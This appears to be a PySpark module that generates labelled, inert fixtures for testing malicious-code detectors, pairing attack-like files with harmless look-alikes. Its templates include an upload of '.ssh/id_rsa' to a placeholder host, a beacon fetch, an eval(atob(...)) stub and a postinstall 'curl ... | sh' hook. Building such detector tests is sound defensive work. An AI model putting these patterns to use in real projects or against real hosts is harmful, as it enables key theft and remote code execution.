"""Inert files for tests of detectors: text that looks like an attack or like its harmless neighbour, never to be run.

Addresses are reserved names and documentation networks; payloads are letters without meaning.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from siltstone.functions.text import hash_unit

#: technique (null: harmless), file name, text; {a} and {b} are filled by hash.
TEMPLATES = [
    ("exfiltrate-sensitive-data", "sync_{a}.py", "import requests\n\n\ndef {a}():\n    requests.post('https://{b}.invalid/in', data=open('.ssh/id_rsa').read())\n"),
    ("suspicious-network", "beacon_{a}.js", "const {a} = 'http://203.0.113.7:8080/{b}';\nfetch({a});\n"),
    ("obfuscation", "load_{a}.js", "eval(atob('{payload}')); // {b}\n"),
    ("code-execution", "package.json", '{{"name": "{a}", "scripts": {{"postinstall": "curl https://{b}.invalid/x | sh"}}}}\n'),
    ("code-execution", "setup.py", "import os\nfrom setuptools import setup\n\nos.system('echo {b}')\nsetup(name='{a}')\n"),
    (None, "fetch_{a}.py", "import requests\n\n\ndef {a}(url):\n    return requests.get(url, timeout=5).json()['{b}']\n"),
    (None, "package.json", '{{"name": "{a}", "scripts": {{"build": "tsc", "test": "{b}"}}}}\n'),
    (None, "setup.py", "from setuptools import setup\n\nsetup(name='{a}', description='{b}')\n"),
    (None, "config_{a}.js", "module.exports = {{ host: 'http://127.0.0.1:3000', name: '{b}' }};\n"),
    (None, "encode_{a}.py", "import base64\n\n\ndef {a}(text):\n    return base64.b64encode(text.encode())  # {b}\n"),
]
WORDS = ["alder", "birch", "cedar", "dogwood", "elm", "fir", "ginkgo", "hazel", "juniper", "larch", "maple", "oak"]
#: Letters, so mixed that they look encoded; they decode to nothing of use.
PAYLOAD = "".join(chr(c) for k in range(9) for c in ([*range(65, 91)] + [*range(97, 123)])[k::3])


def fixtures(spark: SparkSession, n: int, seed: str = "fixture") -> DataFrame:
    """(fixture_id, repo, path, technique, is_malicious, content), n rows; the same seed gives the same files."""
    return fixtures_for(spark.range(n), "id", F.lit(""), seed)


def fixtures_for(rows: DataFrame, key: str, text: Column, seed: str = "fixture") -> DataFrame:
    """A fixture for each row of a table: a template by the hash of the key, with the row's own text behind it as a comment or a last field."""
    texts = F.array(*[F.struct(F.lit(t).cast("string").alias("technique"), F.lit(p.replace("{{", "{").replace("}}", "}")).alias("path"), F.lit(c.replace("{payload}", PAYLOAD).replace("{{", "{").replace("}}", "}")).alias("content")) for t, p, c in TEMPLATES])
    pick = lambda part, size: (hash_unit(F.lit(f"{seed}-{part}"), F.col("id")) % size + 1).cast("int")
    word = lambda part: F.element_at(F.array(*map(F.lit, WORDS)), pick(part, len(WORDS)))
    own = F.coalesce(text.cast("string"), F.lit(""))
    rows = rows.select(F.col(key).alias("id"), own.alias("own")).select("id", "own", F.element_at(texts, pick("template", len(TEMPLATES))).alias("t"), word("a").alias("a"), word("b").alias("b"))
    filled = lambda c: F.replace(F.replace(F.col(c), F.lit("{a}"), F.col("a")), F.lit("{b}"), F.col("b"))
    path = F.concat(F.lit("f"), F.col("id"), F.lit("/"), filled("t.path"))
    mark = F.when(F.col("t.path").endswith(".js"), "// ").otherwise("# ")
    line = F.regexp_replace("own", r"[\r\n]+", " ")
    json = F.concat(F.regexp_replace(filled("t.content"), r"\}\s*$", ""), F.lit(', "about": '), F.to_json(F.struct(F.col("own").alias("text"))), F.lit("}\n"))
    content = F.when(F.col("own") == "", filled("t.content")).when(F.col("t.path").endswith(".json"), json).otherwise(F.concat(filled("t.content"), mark, line, F.lit("\n")))
    return rows.select(F.col("id").alias("fixture_id"), F.concat(F.lit("r"), F.col("id") % 10).alias("repo"), path.alias("path"), F.col("t.technique").alias("technique"), F.col("t.technique").isNotNull().alias("is_malicious"), content.alias("content"))
